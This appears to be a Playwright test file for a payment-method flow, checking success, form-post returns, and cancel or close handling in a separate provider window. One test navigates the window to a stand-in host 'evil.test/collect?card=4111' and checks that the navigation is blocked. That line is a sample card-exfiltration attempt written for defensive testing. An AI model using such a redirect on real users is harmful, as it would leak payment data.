import type { BrowserContext } from '@playwright/test'
import { type PaymentType } from '#shared/payments/paymentTypes'
import * as commonTexts from '#shared/texts/common'
import * as paymentMethodTexts from '#shared/texts/payments/paymentMethods'
import { expect, type Household, test, tick } from '../../support/browser/browser'
import { openShellAs, pageOrigin, type TestShell } from '../../support/shell/shellHarness'

/** Proceeds to the provider's page in main's payment window. */
async function proceed(context: BrowserContext, household: Household, type: PaymentType) {
  const opened = await openShellAs(context, household.person)
  const { page, payments } = opened
  await page.goto(`${pageOrigin}/managePayment`)
  await page.getByRole('button', { name: 'Add payment method' }).click()
  const dialog = page.getByRole('dialog', { name: 'Add payment method' })
  await tick(dialog.getByRole('radio', { name: new RegExp(`^${paymentMethodTexts.typeLabels[type]}`) }))
  const proceedButton = dialog.getByRole('button', { name: paymentMethodTexts.proceed })
  /** Opens the provider's page in another window. */
  const openWindow = async () => {
    const count = payments.length + 1
    await proceedButton.click()
    await expect.poll(() => payments.length).toBe(count)
    const provider = await payments.at(-1)?.page
    if (!provider) throw new Error('No window of a payment')
    await expect(provider.locator('form')).toBeVisible()
    return provider
  }
  return {
    ...opened,
    dialog,
    proceedButton,
    openWindow,
    provider: await openWindow(),
    isGone: () => payments.at(-1)?.isGone(),
  }
}

const listed = (page: TestShell['page'], name: RegExp) => page.getByRole('listitem').filter({ hasText: name })

test('a method is added in a window of the main process and is then in the list, and the shell’s page shows no page of the provider', async ({
  context,
  household,
}) => {
  const { page, dialog, provider, isGone } = await proceed(context, household, 'AP')
  await expect(dialog.getByText(/Complete the step in the window that/)).toBeVisible()
  await expect(page.locator('iframe')).toHaveCount(0)
  await provider.getByLabel(/Visa ending in 1111/).check()
  await provider.getByRole('button', { name: commonTexts.confirm }).click()
  await expect(dialog.getByText(/Congratulation!!/)).toBeVisible()
  await expect(dialog).toBeHidden()
  await expect(listed(page, /Apple Pay/)).toBeVisible()
  expect(isGone()).toBe(true)
})

test('the shell accepts a provider that returns by posting a form', async ({ context, household }) => {
  const { page, dialog, provider } = await proceed(context, household, 'AP')
  // The sandbox returns its result in the URL. Here it is posted instead.
  await provider.route('**/pay/**', async (route) => {
    if (route.request().method() !== 'POST') return route.fallback()
    const { location = '' } = (await route.fetch({ maxRedirects: 0 })).headers()
    const { origin, pathname, hash } = new URL(location)
    const fields = [...new URLSearchParams(hash.slice(1))].map(
      ([name, value]) => `<input name="${name}" value="${value}">`,
    )
    const form = `<form method="post" action="${origin}${pathname}">${fields.join('')}</form>`
    return route.fulfill({ contentType: 'text/html', body: `${form}<script>document.forms[0].submit()</script>` })
  })
  await provider.getByLabel(/Visa ending in 1111/).check()
  await provider.getByRole('button', { name: commonTexts.confirm }).click()
  await expect(dialog.getByText(/Congratulation!!/)).toBeVisible()
  await expect(listed(page, /Apple Pay/)).toBeVisible()
})

test('nothing is saved if the window is canceled, closed, canceled in the dialog or navigated elsewhere, and the dialog says so', async ({
  context,
  household,
}) => {
  const { page, dialog, proceedButton, provider, openWindow, isGone } = await proceed(context, household, 'AP')
  const nothingSaved = dialog.getByText(/^Nothing was saved because the payment window/)
  await provider.getByRole('button', { name: commonTexts.cancel }).click()
  await expect(nothingSaved).toBeVisible()
  await expect(proceedButton).toBeEnabled()
  expect(isGone()).toBe(true)

  const closed = await openWindow()
  await expect(nothingSaved).toBeHidden()
  await closed.close()
  await expect(nothingSaved).toBeVisible()

  const cancelled = await openWindow()
  await dialog.getByRole('button', { name: commonTexts.cancel }).click()
  await expect.poll(isGone).toBe(true)
  await expect.poll(() => cancelled.isClosed()).toBe(true)

  const led = await openWindow()
  const reached: string[] = []
  led.on('response', (response) => reached.push(new URL(response.url()).origin))
  await led.evaluate(() => window.location.assign('https://evil.test/collect?card=4111')).catch(() => undefined)
  await expect(dialog.getByText(/Nothing was saved\. The payment page tried/)).toBeVisible()
  expect(isGone()).toBe(true)
  // It was blocked before any request.
  expect(reached).not.toContain('https://evil.test')
  await expect(page.getByText(paymentMethodTexts.noMethods)).toBeAttached()
})
